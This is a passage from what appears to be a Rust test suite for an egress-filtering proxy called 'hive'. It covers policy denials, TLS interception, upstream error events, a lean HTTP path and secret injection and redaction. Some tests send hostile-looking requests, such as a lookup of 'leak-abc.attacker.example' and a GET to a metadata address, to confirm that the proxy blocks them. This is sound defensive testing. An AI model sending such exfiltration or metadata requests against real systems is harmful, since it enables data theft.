    let (status, _, body) = send(&mut c, get("192.0.2.7", "/metadata")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(body.contains("GET 192.0.2.7/metadata denied"), "{body}");
    // A name no rule allows is never looked up.
    let (status, _, _) = h.get_https("leak-abc.attacker.example", "/").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(*resolver.lookups.lock(), Vec::<String>::new());
    assert_eq!(h.hits(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_connect_with_plain_http_or_other_bytes() {
    let echo = start_echo().await;
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let (code, text) = connect_then(
        h.proxy,
        "api.github.com:80",
        "PUT /v1/things HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 0\r\n\r\n",
    )
    .await;
    assert_eq!(code, 403, "{text}");
    assert!(
        text.starts_with("HTTP/1.1 403 Blocked by hive egress policy\r\n"),
        "{text}"
    );
    assert!(
        text.contains("hive: PUT api.github.com/v1/things denied"),
        "{text}"
    );
    // Neither TLS nor HTTP (ssh): closed, recorded as a tcp denial.
    let target = format!("github.com:{}", echo.port());
    let (code, text) = connect_then(h.proxy, &target, "SSH-2.0-OpenSSH_9.6\r\n").await;
    assert_eq!((code, text.as_str()), (0, ""));
    assert_eq!(h.hits(), 0);
    let events = h.drain_events().await;
    let got = decisions(&events);
    assert_eq!(got[0].0, "PUT");
    assert_eq!(got[0].2, "http");
    assert_eq!(
        got[1],
        (
            "CONNECT".into(),
            "".into(),
            "tcp".into(),
            "denied".into(),
            "no-rule".into()
        )
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn transparent_connection_to_a_denied_name_gets_403_inside_tls() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    // As for an address of the DNS responder's ring of denied names.
    let target: super::TransparentTarget =
        Arc::new(|_| Some(("github.com".to_string(), 443, true)));
    h.engine
        .serve_transparent_listener(listener, target)
        .unwrap();
    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls_pemfile::certs(&mut h.ca_pem.as_bytes()) {
        roots.add(cert.unwrap()).unwrap();
    }
    let cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    // Even an allowed name in the SNI and Host is refused on such a connection.
    for name in ["github.com", "pypi.org"] {
        let stream = TcpStream::connect(addr).await.unwrap();
        let server = rustls::pki_types::ServerName::try_from(name.to_string()).unwrap();
        let tls = tokio_rustls::TlsConnector::from(Arc::new(cfg.clone()))
            .connect(server, stream)
            .await
            .unwrap();
        let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
            .await
            .unwrap();
        tokio::spawn(conn);
        let (status, _, body) = send(&mut c, get(name, "/login")).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{name}");
        assert!(body.contains(&format!("GET {name}/login denied")), "{body}");
    }
    assert_eq!(h.hits(), 0);
    let events = h.drain_events().await;
    assert_eq!(egress_requests(&events).len(), 2);
    assert!(egress_requests(&events)
        .iter()
        .all(|e| field(e, "via") == "transparent" && field(e, "access") == "denied"));
}

// ---------------------------------------------------------------------------------------------
// Upstream failures: 502/504 with the cause, and an egress.error event

fn errors(events: &[Event]) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.kind == kind::EGRESS_ERROR)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_failures_emit_egress_error_with_the_cause() {
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    // Accepts and never answers.
    let silent = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let silent_addr = silent.local_addr().unwrap();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = silent.accept().await {
            held.push(s);
        }
    });
    let resolver = Arc::new(CountingResolver::default());
    let h = Harness::with_resolver(json!([{ "access": "allow", "host": "*" }]), resolver).await;
    let mut upstream = h.upstream.clone();
    upstream["resolve"]["pypi.org:80"] = closed.to_string().into();
    upstream["resolve"]["pypi.org:443"] = closed.to_string().into();
    upstream["resolve"]["files.pypi.org:80"] = silent_addr.to_string().into();
    upstream["responseTimeoutMs"] = 300.into();
    let config = Config::from_json(
        &json!({ "egress": [{ "access": "allow", "host": "*" }], "upstream": upstream }),
    )
    .unwrap();
    h.cell.store(Arc::new(Compiled::new(config)));

    let (status, headers, body) = h.get_http("http://pypi.org/simple/").await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert_eq!(headers["x-hive-upstream-error"], "refused");
    assert!(
        body.contains("GET pypi.org/simple/ failed upstream (refused)"),
        "{body}"
    );
    // Inside an intercepted tunnel too.
    let (status, _, body) = h.get_https("pypi.org", "/x").await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert!(body.contains("(refused)"), "{body}");
    // A name nothing resolves: the CONNECT is accepted and the request inside gets the cause.
    let (status, headers, body) = h.get_https("nowhere.invalid", "/a").await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert_eq!(headers["x-hive-upstream-error"], "dns");
    assert!(
        body.contains("GET nowhere.invalid/a failed upstream (dns)"),
        "{body}"
    );
    // No response head within responseTimeoutMs.
    let (status, headers, _) = h.get_http("http://files.pypi.org/slow").await;
    assert_eq!(status, StatusCode::GATEWAY_TIMEOUT);
    assert_eq!(headers["x-hive-upstream-error"], "timeout");

    let events = h.drain_events().await;
    let errs = errors(&events);
    let causes: Vec<&str> = errs
        .iter()
        .map(|e| field(e, "cause").as_str().unwrap())
        .collect();
    assert_eq!(causes, vec!["refused", "refused", "dns", "timeout"]);
    for e in &errs {
        let id = field(e, "requestId").as_str().unwrap();
        let request = egress_requests(&events)
            .into_iter()
            .find(|r| r.id == id)
            .expect("the error names its egress.request");
        assert_eq!(field(e, "host"), field(request, "host"));
        assert_eq!(field(e, "port"), field(request, "port"));
        assert!(!field(e, "detail").as_str().unwrap().is_empty());
    }
    assert!(field(errs[0], "detail")
        .as_str()
        .unwrap()
        .to_lowercase()
        .contains("refused"));
}

#[test]
fn upstream_timeouts_are_validated_naming_the_field() {
    let cases = [
        (
            json!({ "connectTimeoutMs": 0 }),
            "upstream.connectTimeoutMs",
        ),
        (
            json!({ "responseTimeoutMs": "5s" }),
            "upstream.responseTimeoutMs",
        ),
        (
            json!({ "responseTimeoutMs": 1.5 }),
            "upstream.responseTimeoutMs",
        ),
        (
            json!({ "connectTimeoutMs": 3_600_001u64 }),
            "upstream.connectTimeoutMs",
        ),
    ];
    for (upstream, path) in cases {
        let err = Config::from_json(&json!({ "upstream": upstream })).unwrap_err();
        assert!(err.to_string().contains(path), "{err}");
    }
    let ok = Config::from_json(
        &json!({ "upstream": { "connectTimeoutMs": 250, "responseTimeoutMs": 60000 } }),
    )
    .unwrap();
    assert_eq!(ok.upstream.connect_timeout, Duration::from_millis(250));
    assert_eq!(ok.upstream.response_timeout, Duration::from_secs(60));
    let default = Config::from_json(&json!({})).unwrap();
    assert_eq!(default.upstream.connect_timeout, Duration::from_secs(10));
    assert_eq!(default.upstream.response_timeout, Duration::from_secs(120));
}

/// What intercepting denied TLS costs per connection: CONNECT, TLS handshake with a leaf, one GET
/// answered 403, close; against a denied absolute-form plain-HTTP request (no TLS) on a fresh
/// connection each. Names repeat (leaf cached) or are fresh each time (a leaf minted per
/// connection). Run: `cargo test --release --lib denied_tls_cost -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "measurement; prints a table"]
async fn denied_tls_cost() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let rounds = 300;
    let time = |start: std::time::Instant| start.elapsed().as_secs_f64() * 1e6 / f64::from(rounds);
    // Warm-up: pools, the CA's config cache for the repeated name, the allocator.
    for _ in 0..20 {
        let _ = h.get_http("http://github.com/login").await;
        let _ = h.get_https("github.com", "/login").await;
    }

    let start = std::time::Instant::now();
    for _ in 0..rounds {
        let (status, _, _) = h.get_http("http://github.com/login").await;
        assert_eq!(status, StatusCode::FORBIDDEN);
    }
    let plain = time(start);

    let start = std::time::Instant::now();
    for _ in 0..rounds {
        let (status, _, _) = h.get_https("github.com", "/login").await;
        assert_eq!(status, StatusCode::FORBIDDEN);
    }
    let tls_cached = time(start);

    let start = std::time::Instant::now();
    for i in 0..rounds {
        let (status, _, _) = h.get_https(&format!("n{i}.denied.example"), "/login").await;
        assert_eq!(status, StatusCode::FORBIDDEN);
    }
    let tls_fresh = time(start);
    assert_eq!(h.hits(), 0);

    let profile = if cfg!(debug_assertions) {
        "debug"
    } else {
        "release"
    };
    println!("denied request, fresh connection each ({profile} build, {rounds} sequential, client in-process):");
    println!("| path | µs per connection |");
    println!("| --- | --- |");
    println!("| plain HTTP, absolute-form 403 (no TLS) | {plain:.0} |");
    println!("| CONNECT + TLS + 403 inside, same name (leaf cached) | {tls_cached:.0} |");
    println!("| CONNECT + TLS + 403 inside, new name (leaf minted) | {tls_fresh:.0} |");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_silent_client_of_a_denied_tunnel_to_a_non_web_port_is_closed_soon_as_tcp() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    assert_eq!(
        connect_head(&mut s, "mail.example:25", None).await,
        StatusCode::OK
    );
    let started = std::time::Instant::now();
    let mut buf = [0u8; 16];
    let n = tokio::time::timeout(Duration::from_secs(4), s.read(&mut buf))
        .await
        .expect("closed within the sniff timeout")
        .unwrap_or(0);
    assert_eq!(n, 0);
    assert!(started.elapsed() < Duration::from_secs(3));
    let events = h.drain_events().await;
    assert_eq!(
        decisions(&events),
        vec![(
            "CONNECT".into(),
            "".into(),
            "tcp".into(),
            "denied".into(),
            "no-rule".into()
        )]
    );
}

// ---------------------------------------------------------------------------------------------
// The lean HTTP/1.1 path (`super::lean`)

/// An upstream speaking raw HTTP/1.1 on 127.0.0.1:0; each connection reads one request head at a
/// time (and its `Content-Length` body) and answers by path (`/chunked`, `/close`, `/conflict`,
/// `/early`, `/once`, `/silent`, `/echo…` ([`echo_answer`]), `/mirror` (the body it was sent;
/// `/mirror-once` then closes), anything else `200 ok`). Returns its address and how many
/// connections it accepted.
async fn start_raw_upstream() -> (SocketAddr, Arc<std::sync::atomic::AtomicUsize>) {
    let raw = start_raw_upstream_counting().await;
    (raw.addr, raw.accepted)
}

/// [`start_raw_upstream`]'s upstream.
struct RawUpstream {
    addr: SocketAddr,
    /// Connections accepted.
    accepted: Arc<std::sync::atomic::AtomicUsize>,
    /// Request heads received, on every connection.
    requests: Arc<std::sync::atomic::AtomicUsize>,
}

/// [`start_raw_upstream`], also counting the requests it receives.
async fn start_raw_upstream_counting() -> RawUpstream {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let requests = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let (count, heads) = (accepted.clone(), requests.clone());
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let heads = heads.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                loop {
                    let mut chunk = [0u8; 4096];
                    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                        match s.read(&mut chunk).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => buf.extend_from_slice(&chunk[..n]),
                        }
                    }
                    let end = buf.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
                    heads.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
                    buf.drain(..end);
                    // A body is read whole (`Content-Length` or chunked); `/mirror` answers
                    // with it, and says how it was framed in `x-framing`.
                    let length = head.lines().find_map(|l| {
                        let (name, value) = l.split_once(':')?;
                        name.eq_ignore_ascii_case("content-length")
                            .then(|| value.trim().parse::<usize>().ok())?
                    });
                    let chunked = head.lines().any(|l| {
                        l.split_once(':').is_some_and(|(name, value)| {
                            name.eq_ignore_ascii_case("transfer-encoding")
                                && value.trim().eq_ignore_ascii_case("chunked")
                        })
                    });
                    let body = if chunked {
                        match read_chunked_request(&mut s, &mut buf).await {
                            Some(body) => body,
                            None => return,
                        }
                    } else {
                        while buf.len() < length.unwrap_or(0) {
                            match s.read(&mut chunk).await {
                                Ok(0) | Err(_) => return,
                                Ok(n) => buf.extend_from_slice(&chunk[..n]),
                            }
                        }
                        buf.drain(..length.unwrap_or(0)).collect()
                    };
                    let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
                    if path.starts_with("/mirror") {
                        let framing = if chunked { "chunked" } else { "length" };
                        let mut answer = format!(
                            "HTTP/1.1 200 OK\r\nx-framing: {framing}\r\ncontent-length: {}\r\n\r\n",
                            body.len()
                        )
                        .into_bytes();
                        answer.extend_from_slice(&body);
                        if s.write_all(&answer).await.is_err() || path.ends_with("once") {
                            return;
                        }
                        continue;
                    }
                    if let Some(answer) = echo_answer(&head, &path) {
                        let close = path.ends_with("close");
                        if s.write_all(&answer).await.is_err() || close {
                            return;
                        }
                        continue;
                    }
                    let answer: &[u8] = match path.as_str() {
                        "/chunked" => b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\nx-up: 1\r\n\r\n5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nx-trailer: t\r\n\r\n",
                        "/close" => b"HTTP/1.1 200 OK\r\nx-up: 1\r\n\r\nuntil close",
                        "/conflict" => b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\nhello!",
                        "/early" => b"HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\nHTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nlater",
                        "/silent" => {
                            tokio::time::sleep(Duration::from_secs(5)).await;
                            return;
                        }
                        _ if head.starts_with("HEAD ") => b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n",
                        _ => b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok",
                    };
                    if s.write_all(answer).await.is_err() || path == "/close" || path == "/once" {
                        return;
                    }
                }
            });
        }
    });
    RawUpstream {
        addr,
        accepted,
        requests,
    }
}

/// Reads a chunked request body (extensions and trailers skipped) from `s`, `buf` holding what
/// was read past the head; leaves in `buf` what follows it. `None` when the connection ends.
async fn read_chunked_request(s: &mut TcpStream, buf: &mut Vec<u8>) -> Option<Vec<u8>> {
    async fn line(s: &mut TcpStream, buf: &mut Vec<u8>) -> Option<String> {
        loop {
            if let Some(end) = buf.windows(2).position(|w| w == b"\r\n") {
                let line = String::from_utf8_lossy(&buf[..end]).into_owned();
                buf.drain(..end + 2);
                return Some(line);
            }
            let mut chunk = [0u8; 4096];
            match s.read(&mut chunk).await {
                Ok(0) | Err(_) => return None,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        }
    }
    let mut body = Vec::new();
    loop {
        let size = line(s, buf).await?;
        let size = usize::from_str_radix(size.split(';').next()?.trim(), 16).ok()?;
        if size == 0 {
            while !line(s, buf).await?.is_empty() {}
            return Some(body);
        }
        while buf.len() < size + 2 {
            let mut chunk = [0u8; 4096];
            match s.read(&mut chunk).await {
                Ok(0) | Err(_) => return None,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        }
        body.extend(buf.drain(..size));
        buf.drain(..2);
    }
}

/// The raw upstream's `/echo…` answers: the `x-token` values it was sent in a header, and in the
/// body with others (`seen <x-token> key <x-key> auth <authorization> query <query> accept
/// <accept-encoding>`), framed as the path says:
/// `/echo` (length), `/echo-chunked` (the tokens split across chunks), `/echo-close` (to the
/// end of the connection), `/echo-gzip`, `/echo-compress` (a coding hive cannot read),
/// `/echo-stacked` (`identity` then `gzip`, on two lines); a `HEAD` gets the head only.
fn echo_answer(head: &str, target: &str) -> Option<Vec<u8>> {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    if !path.starts_with("/echo") {
        return None;
    }
    let values = |name: &str| {
        let lines = head.lines().filter_map(|l| l.split_once(':'));
        lines
            .filter(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim())
            .collect::<Vec<_>>()
            .join(",")
    };
    let tokens = values("x-token");
    let body = format!(
        "seen {tokens} key {} auth {} query {query} accept {}",
        values("x-key"),
        values("authorization"),
        values("accept-encoding")
    );
    let mut out = format!("HTTP/1.1 200 OK\r\nx-echo: {tokens}\r\n").into_bytes();
    let gzip = |text: &str| {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(text.as_bytes()).unwrap();
        e.finish().unwrap()
    };
    let (framing, bytes) = match path {
        "/echo-chunked" => {
            let (a, b) = body.split_at(body.find(&tokens).unwrap_or(0) + tokens.len() / 2);
            let chunks = format!("{:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n", a.len(), b.len());
            (
                "transfer-encoding: chunked\r\n".to_owned(),
                chunks.into_bytes(),
            )
        }
        "/echo-close" => (String::new(), body.into_bytes()),
        "/echo-gzip" | "/echo-compress" | "/echo-stacked" => {
            let packed = gzip(&body);
            let coding = match path {
                "/echo-gzip" => "content-encoding: gzip\r\n",
                "/echo-compress" => "content-encoding: compress\r\n",
                _ => "content-encoding: identity\r\ncontent-encoding: gzip\r\n",
            };
            (
                format!("{coding}content-length: {}\r\n", packed.len()),
                packed,
            )
        }
        _ => (
            format!("content-length: {}\r\n", body.len()),
            body.into_bytes(),
        ),
    };
    out.extend_from_slice(framing.as_bytes());
    out.extend_from_slice(b"\r\n");
    if !head.starts_with("HEAD ") {
        out.extend_from_slice(&bytes);
    }
    Some(out)
}

/// The placeholder of the named secret `name` in the rules in force.
fn placeholder(h: &Harness, name: &str) -> String {
    let compiled = h.cell.load();
    compiled.secrets.get(name).unwrap().placeholder.to_string()
}

/// The `keys` of each event of `kind`, as one array per event.
fn fields_of(events: &[Event], kind: &str, keys: &[&str]) -> Vec<Value> {
    let of_kind = events.iter().filter(|e| e.kind == kind);
    of_kind
        .map(|e| Value::Array(keys.iter().map(|k| field(e, k).clone()).collect()))
        .collect()
}

/// Points `raw.test:80` at `raw` (and allows it), with a short response timeout.
fn route_raw(h: &Harness, raw: SocketAddr) {
    route_raw_with(
        h,
        raw,
        json!({ "egress": [{ "access": "allow", "host": "raw.test" }] }),
    );
}

/// Points `raw.test:80` and `other.test:80` at `raw` under `config` (its `egress`, `secrets`),
/// with a short response timeout.
fn route_raw_with(h: &Harness, raw: SocketAddr, mut config: Value) {
    let mut upstream = h.upstream.clone();
    upstream["resolve"]["raw.test:80"] = raw.to_string().into();
    upstream["resolve"]["other.test:80"] = raw.to_string().into();
    upstream["responseTimeoutMs"] = 500.into();
    config["upstream"] = upstream;
    let config = Config::from_json(&config).unwrap();
    let placeholders = crate::secrets::Placeholders::default();
    h.cell
        .store(Arc::new(Compiled::with_secrets(config, &placeholders)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_takes_plain_gets_and_hands_the_rest_to_hyper() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let mut c = h.http_client().await;
    let get = |path: &str| {
        Request::get(format!("http://pypi.org{path}"))
            .body(empty())
            .unwrap()
    };
    let (status, _, body) = send(&mut c, get("/one")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /one"));
    let (status, _, body) = send(&mut c, get("/two")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /two"));
    assert_eq!(h.engine.lean_requests(), 2, "both GETs lean");
    // A request whose chunked body announces trailers goes to hyper, and hyper keeps the
    // connection from then on.
    let post = Request::post("http://pypi.org/form")
        .header("transfer-encoding", "chunked")
        .header("trailer", "x-sum")
        .body(full("a=1"))
        .unwrap();
    let (status, _, body) = send(&mut c, post).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /form"));
    let (status, _, body) = send(&mut c, get("/three")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /three"));
    assert_eq!(h.engine.lean_requests(), 2, "hyper serves the rest");
    assert_eq!(h.http.hits.count(), 4);
    assert_eq!(h.http.hits.last().method, "GET");

    // The same events as hyper's path: a request and a response per exchange, bytes counted.
    let events = h.drain_events().await;
    let requests = egress_requests(&events);
    let methods: Vec<&str> = requests
        .iter()
        .map(|e| field(e, "method").as_str().unwrap_or(""))
        .collect();
    assert_eq!(methods, ["GET", "GET", "POST", "GET"]);
    let responses: Vec<&Event> = events
        .iter()
        .filter(|e| e.kind == kind::EGRESS_RESPONSE)
        .collect();
    assert_eq!(responses.len(), 4);
    assert_eq!(field(responses[0], "status"), &json!(200));
    assert_eq!(field(responses[0], "bytesIn"), &json!("ok /one".len()));
    assert_eq!(
        field(responses[0], "requestId"),
        &json!(requests[0].id),
        "paired"
    );

    // Inside an intercepted tunnel too, and the upstream leg is TLS.
    let mut c = h.https_client("pypi.org").await;
    let (status, _, body) = send(&mut c, super::tests::get("pypi.org", "/tls")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /tls"));
    assert_eq!(h.engine.lean_requests(), 3);
    assert_eq!(h.https.hits.last().path, "/tls");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_denies_like_hyper_and_keeps_the_connection() {
    let h =
        Harness::new(json!([{ "access": "allow", "host": "pypi.org", "methods": ["GET"] }])).await;
    let mut c = h.http_client().await;
    // A host no rule names: hyper takes it (the policy alone does not allow it).
    let (status, headers, body) = send(
        &mut c,
        Request::get("http://evilpypi.org/x").body(empty()).unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "no-rule");
    assert!(body.contains("GET evilpypi.org/x"), "{body}");
    assert_eq!(h.hits(), 0);

    // A lean request the gate refuses for its address: answered on the lean path, same words,
    // and the server listening there sees nothing.
    let h = Harness::new(json!([{ "access": "allow", "host": "localhost" }])).await;
    let target = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = target.local_addr().unwrap().port();
    let (code, text) = raw_exchange(
        h.proxy,
        &format!("GET http://localhost:{port}/x HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"),
    )
    .await;
    assert!(
        tokio::time::timeout(Duration::from_millis(200), target.accept())
            .await
            .is_err(),
        "no connection to the refused address"
    );
    assert_eq!(code, 403, "{text}");
    assert!(
        text.contains("HTTP/1.1 403 Blocked by hive egress policy"),
        "{text}"
    );
    assert!(text.contains("x-hive-denied: private-address"), "{text}");
    assert_eq!(h.engine.lean_requests(), 1);
    let events = h.drain_events().await;
    let decided: Vec<(&Value, &Value)> = egress_requests(&events)
        .iter()
        .map(|e| (field(e, "access"), field(e, "reason")))
        .collect();
    assert_eq!(decided, [(&json!("denied"), &json!("private-address"))]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_decides_a_reused_connection_again_once_the_rules_change() {
    // `localhost:80` mapped to the test's server: allowed, and the mapping exempts the address.
    let h = Harness::new(json!([])).await;
    let egress = json!([{ "access": "allow", "host": "localhost" }]);
    let mapped = |on: bool| {
        let mut upstream = h.upstream.clone();
        if on {
            upstream["resolve"]["localhost:80"] = h.http.addr.to_string().into();
        }
        let config = Config::from_json(&json!({ "egress": egress, "upstream": upstream }));
        h.cell.store(Arc::new(Compiled::new(config.unwrap())));
    };
    mapped(true);
    let mut c = h.http_client().await;
    let get = || Request::get("http://localhost/x").body(empty()).unwrap();
    // The second request reuses the upstream connection, decided by the policy alone.
    assert_eq!(send(&mut c, get()).await.0, StatusCode::OK);
    assert_eq!(send(&mut c, get()).await.0, StatusCode::OK);
    assert_eq!(h.http.hits.count(), 2);

    // A new config, the same allow rule, no mapping: the idle connection to the old address is
    // not used (another `upstream` section is another client and pool), and the gate refuses the
    // address `localhost` now resolves to.
    mapped(false);
    let (status, headers, _) = send(&mut c, get()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "private-address");
    assert_eq!(
        h.http.hits.count(),
        2,
        "the refused request reached no server"
    );
    assert_eq!(h.engine.lean_requests(), 3);

    // Mapped again: allowed again.
    mapped(true);
    assert_eq!(send(&mut c, get()).await.0, StatusCode::OK);
    assert_eq!(h.http.hits.count(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_relays_every_response_framing() {
    let h = Harness::new(json!([])).await;
    let (raw, accepted) = start_raw_upstream().await;
    route_raw(&h, raw);
    let mut c = h.http_client().await;
    let get = |path: &str| {
        Request::get(format!("http://raw.test{path}"))
            .body(empty())
            .unwrap()
    };

    // chunked: decoded and encoded again (extensions and trailers dropped)
    let (status, headers, body) = send(&mut c, get("/chunked")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "hello world"));
    assert_eq!(headers["transfer-encoding"], "chunked");
    assert_eq!(headers["x-up"], "1");
    // an informational head is skipped, the final one relayed
    let (status, _, body) = send(&mut c, get("/early")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "later"));
    // HEAD: the length is relayed, no body is read or sent
    let (status, headers, body) = send(
        &mut c,
        Request::head("http://raw.test/").body(empty()).unwrap(),
    )
    .await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, ""));
    assert_eq!(headers["content-length"], "2");
    // conflicting lengths: 502, never a guess
    let (status, headers, _) = send(&mut c, get("/conflict")).await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert_eq!(headers["x-hive-upstream-error"], "reset");
    assert_eq!(h.engine.lean_requests(), 4);
    assert_eq!(
        accepted.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "one upstream connection kept for all four"
    );

    // a body that ends with the upstream connection: relayed, then the client connection closes
    let mut c = h.http_client().await;
    let (status, headers, body) = send(&mut c, get("/close")).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "until close"));
    assert_eq!(headers["connection"], "close");
    tokio::time::timeout(Duration::from_secs(2), c.ready())
        .await
        .expect("closed promptly")
        .expect_err("the client connection is closed");

    // no answer within upstream.responseTimeoutMs: 504
    let mut c = h.http_client().await;
    let (status, headers, _) = send(&mut c, get("/silent")).await;
    assert_eq!(status, StatusCode::GATEWAY_TIMEOUT);
    assert_eq!(headers["x-hive-upstream-error"], "timeout");
    let events = h.drain_events().await;
    let statuses: Vec<Value> = events
        .iter()
        .filter(|e| e.kind == kind::EGRESS_RESPONSE)
        .map(|e| field(e, "status").clone())
        .collect();
    assert_eq!(
        statuses,
        [
            json!(200),
            json!(200),
            json!(200),
            json!(502),
            json!(200),
            json!(504)
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_replaces_a_kept_connection_the_upstream_closed() {
    let h = Harness::new(json!([])).await;
    let (raw, accepted) = start_raw_upstream().await;
    route_raw(&h, raw);
    let mut c = h.http_client().await;
    for _ in 0..3 {
        let (status, _, body) = send(
            &mut c,
            Request::get("http://raw.test/once").body(empty()).unwrap(),
        )
        .await;
        assert_eq!((status, body.as_str()), (StatusCode::OK, "ok"));
        // the upstream closes after answering, without saying so
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(accepted.load(std::sync::atomic::Ordering::SeqCst), 3);
    assert_eq!(h.engine.lean_requests(), 3);
}

/// Secrets, the same on the lean path as on hyper's (a `content-length: 0` sends a GET there):
/// the sandbox's own header of an override's name replaced, an inline value and a template over
/// a named secret injected, placeholders substituted in a header and the query, `Accept-Encoding`
/// narrowed, the values scrubbed from response headers and bodies in every framing and coding, a
/// coding hive cannot read refused, a placeholder on its way to another host refused, and the
/// events of both paths alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_applies_secrets_as_hypers_path_does() {
    const NAMED: &str = "named-secret-value-0123";
    for lean in [true, false] {
        let h = Harness::new(json!([])).await;
        let (raw, accepted) = start_raw_upstream().await;
        let config = json!({
            "egress": [
                { "access": "allow", "host": "raw.test", "override": {
                    "headers": { "X-Token": SECRET, "Authorization": "Bearer {{secrets.KEY}}" },
                    "allowPlaintext": true,
                } },
                { "access": "allow", "host": "other.test" },
            ],
            "secrets": { "KEY": { "value": NAMED, "hosts": ["raw.test"] } },
        });
        route_raw_with(&h, raw, config);
        let ph = placeholder(&h, "KEY");
        let mut c = h.http_client().await;
        let get = |url: &str| {
            let req = Request::get(url)
                .header("x-token", "forged")
                .header("x-key", ph.as_str())
                .header("accept-encoding", "gzip, compress;q=0.5, br");
            let req = if lean {
                req
            } else {
                req.header("content-length", "0")
            };
            req.body(empty()).unwrap()
        };
        let seen = |query: &str| {
            format!("seen [redacted] key {ph} auth Bearer {ph} query {query} accept gzip, br")
        };
        for path in ["/echo", "/echo-chunked", "/echo-gzip"] {
            let (status, headers, body) =
                send(&mut c, get(&format!("http://raw.test{path}"))).await;
            assert_eq!(
                (status, body),
                (StatusCode::OK, seen("")),
                "{path}, lean {lean}"
            );
            assert_eq!(headers["x-echo"], "[redacted]", "{path}");
            assert_eq!(headers["transfer-encoding"], "chunked", "{path}");
            assert!(headers.get("content-length").is_none(), "{path}");
            assert!(headers.get("content-encoding").is_none(), "{path}");
        }
        // In the query too.
        let (status, _, body) =
            send(&mut c, get(&format!("http://raw.test/echo?k={ph}&a=1"))).await;
        assert_eq!(
            (status, body),
